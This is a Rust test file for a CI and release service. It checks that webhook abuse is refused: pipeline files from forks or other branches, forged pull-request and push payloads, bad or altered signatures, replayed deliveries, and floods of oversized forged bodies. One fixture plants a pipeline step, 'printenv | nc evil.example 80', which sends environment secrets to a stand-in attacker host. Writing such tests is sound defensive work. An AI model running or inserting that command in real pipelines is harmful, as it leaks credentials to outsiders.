//! The abuse cases of reliability.md that name web hooks.

use crate::support::{Place, SECRET, answer};

/// The pipeline file of another branch, of a pull request or of a fork says what its author likes. None of it counts: what a
/// release does stands at the commit of the branch that the pipeline follows (IB8).
#[tokio::test(flavor = "multi_thread")]
async fn abuse_01_a_pipeline_file_on_another_branch_or_fork_runs_nothing() {
    let place = Place::open().await;
    place.repository.git(&["checkout", "-q", "-b", "evil"]);
    place.repository.write(".tidegate/pipeline.yaml", &crate::support::PIPELINE.replace("run: make", "run: printenv | nc evil.example 80"));
    let evil = place.repository.commit("a harmless change");
    let url = place.repository.url();
    let fork = "https://github.com/evil/orders.git";
    for (event, body) in [
        ("push", format!("{{\"ref\":\"refs/heads/evil\",\"after\":\"{evil}\",\"repository\":{{\"clone_url\":\"{url}\"}}}}")),
        ("create", format!("{{\"ref\":\"evil\",\"ref_type\":\"branch\",\"repository\":{{\"clone_url\":\"{url}\"}}}}")),
        ("push", format!("{{\"ref\":\"refs/heads/main\",\"after\":\"{evil}\",\"repository\":{{\"clone_url\":\"{fork}\"}}}}")),
    ] {
        assert_eq!(answer(place.sender.github(event, &format!("evil-{event}-{}", body.len()), body.as_bytes()).await).await.0, 202);
    }
    place.until_quiet().await;
    assert!(!place.commits().await.contains(&evil), "no release of it");
    let start =
        engine::Start { key: "by hand".to_owned(), commit: Some(evil.clone()), inputs: Default::default(), trigger: "manual".to_owned() };
    let error =
        place.world.engine.start(&place.pipeline, engine::core::Actor::Engine, start).await.expect_err("not a commit of the branch");
    assert!(error.to_string().contains(&evil), "{error}");
}

/// What comes with a pull request of a fork (its Makefile, its tests) is never run where the file follows none (D6); what is run
/// where it does, `pulls.rs` tells.
#[tokio::test(flavor = "multi_thread")]
async fn abuse_02_a_pull_request_of_a_fork_runs_nothing() {
    let place = Place::open().await;
    for action in ["opened", "synchronize", "reopened", "edited", "labeled", "ready_for_review", "closed"] {
        let body = serde_json::json!({
            "action": action,
            "number": 1,
            "pull_request": {"merged": false, "head": {"ref": "main", "sha": "ffffffffffffffffffffffffffffffffffffffff", "repo": {"fork": true, "clone_url": "https://github.com/evil/orders.git"}}},
            "repository": {"clone_url": place.repository.url()},
        });
        let (status, taken) =
            answer(place.sender.github("pull_request", &format!("pull-{action}"), body.to_string().as_bytes()).await).await;
        assert_eq!((status, taken["outcome"].as_str()), (202, Some("accepted")), "{action}: {taken}");
    }
    place.until_quiet().await;
    assert_eq!(place.commits().await.len(), 1);
}

/// A push that names a commit, an author and a pusher of the attacker's choice, rightly signed (a leaked secret, or a
/// replay): nothing of that counts, only what the repository answers.
#[tokio::test(flavor = "multi_thread")]
async fn abuse_03_nothing_that_a_payload_says_of_people_or_commits_is_believed() {
    let place = Place::open().await;
    let real = place.repository.commit("a real commit");
    let body = serde_json::json!({
        "ref": "refs/heads/main",
        "after": "ffffffffffffffffffffffffffffffffffffffff",
        "head_commit": {"id": "ffffffffffffffffffffffffffffffffffffffff", "author": {"name": "root", "email": "root@localhost"}},
        "pusher": {"name": "root"},
        "sender": {"login": "root", "id": 1},
        "repository": {"clone_url": place.repository.url()},
    });
    assert_eq!(answer(place.sender.github("push", "forged", body.to_string().as_bytes()).await).await.0, 202);
    place.until_released(&real).await;
    place.until_quiet().await;
    let story = place.world.story(&place.pipeline).await;
    assert!(!story.contains("ffffffff") && !story.contains("root"), "{story}");
    assert_eq!(place.commits().await.last(), Some(&real));
}

#[tokio::test(flavor = "multi_thread")]
async fn abuse_12_a_forged_delivery_changes_nothing_and_is_not_parsed() {
    let place = Place::open().await;
    place.repository.commit("must not be seen");
    let url = place.repository.url();
    let body = format!("{{\"ref\":\"refs/heads/main\",\"repository\":{{\"clone_url\":\"{url}\"}}}}");
    let good = place.sender.github_request("push", "forged", body.as_bytes()).build().expect("a request");
    let signature = good.headers()["x-hub-signature-256"].to_str().expect("text").to_owned();
    let mut flipped = signature.clone();
    flipped.pop();
    flipped.push(if signature.ends_with('0') { '1' } else { '0' });
    let client = reqwest::Client::new();
    let address = place.served.url.join("/webhooks/github").expect("an address");
    for (what, signature, body) in [
        ("none", None, body.clone()),
        ("empty", Some(String::new()), body.clone()),
        ("one bit", Some(flipped), body.clone()),
        ("another body", Some(signature.clone()), body.replace("main", "mail")),
        ("sha1", Some(signature.replace("sha256=", "sha1=")), body.clone()),
        ("no JSON at all", Some("sha256=00".to_owned()), "{".repeat(1_000_000)),
    ] {
        let mut request = client.post(address.clone()).header("x-github-event", "push").header("x-github-delivery", "forged").body(body);
        if let Some(signature) = signature {
            request = request.header("x-hub-signature-256", signature);
        }
        let (status, answer) = answer(request.send().await.expect("an answer")).await;
        assert_eq!((status, answer["code"].as_str()), (401, Some("wrong_signature")), "{what}: {answer}");
    }
    place.until_quiet().await;
    assert_eq!(place.commits().await.len(), 1, "the source was not even looked at");
}

/// A captured delivery, sent again for ever: under its own id it is known, under others it is one more look.
#[tokio::test(flavor = "multi_thread")]
async fn abuse_12_a_replayed_delivery_releases_nothing() {
    let place = Place::open().await;
    let body = format!("{{\"ref\":\"refs/heads/main\",\"repository\":{{\"clone_url\":\"{}\"}}}}", place.repository.url());
    for number in 0..20 {
        let delivery = if number % 2 == 0 { "captured".to_owned() } else { format!("captured-{number}") };
        assert_eq!(answer(place.sender.github("push", &delivery, body.as_bytes()).await).await.0, 202);
    }
    place.until_quiet().await;
    assert_eq!(place.commits().await.len(), 1);
}

/// Who guesses the id of a delivery to come cannot use it up: ids are not signed, so the body belongs to the key.
#[tokio::test(flavor = "multi_thread")]
async fn abuse_12_an_id_cannot_be_used_up_with_another_body() {
    let place = Place::open().await;
    let captured = br#"{"ref":"refs/heads/main","repository":{"clone_url":"https://elsewhere.example/x.git"}}"#;
    assert_eq!(answer(place.sender.github("push", "the-next-id", captured).await).await.1["outcome"], "accepted");
    let commit = place.repository.commit("must be seen");
    let body = format!("{{\"ref\":\"refs/heads/main\",\"repository\":{{\"clone_url\":\"{}\"}}}}", place.repository.url());
    assert_eq!(answer(place.sender.github("push", "the-next-id", body.as_bytes()).await).await.1["outcome"], "accepted");
    place.until_released(&commit).await;
}

/// Forged bodies of the largest size: refused, then not listened to, while small ones from there still pass.
#[tokio::test(flavor = "multi_thread")]
async fn abuse_12_a_flood_of_large_forged_bodies_is_cut_off() {
    let place = Place::open().await;
    let forger = place.sender_with("not the secret of this server");
    let large = vec![b'x'; 24 * 1024 * 1024];
    let mut codes = Vec::new();
    for number in 0..13 {
        // The refusal comes before the body, so the connection may break while it is still being sent.
        let code = match forger.github_request("push", &format!("flood-{number}"), &large).send().await {
            Ok(response) => answer(response).await.1["code"].as_str().unwrap_or_default().to_owned(),
            Err(_) => "cut".to_owned(),
        };
        codes.push(code);
    }
    assert_eq!(codes.first().map(String::as_str), Some("wrong_signature"), "{codes:?}");
    assert!(matches!(codes.last().map(String::as_str), Some("too_many_forged" | "cut")), "{codes:?}");
    assert!(codes[..10].iter().all(|code| code == "wrong_signature"), "{codes:?}");
    let small = answer(forger.github("push", "flood-small", b"{}").await).await;
    assert_eq!((small.0, small.1["code"].as_str()), (429, Some("too_many_forged")), "{codes:?}");
    let health = reqwest::get(place.served.url.join("/healthz").expect("an address")).await.expect("an answer");
    assert_eq!(health.status(), 200, "the server is well; {SECRET:?} stays unknown to the forger");
}
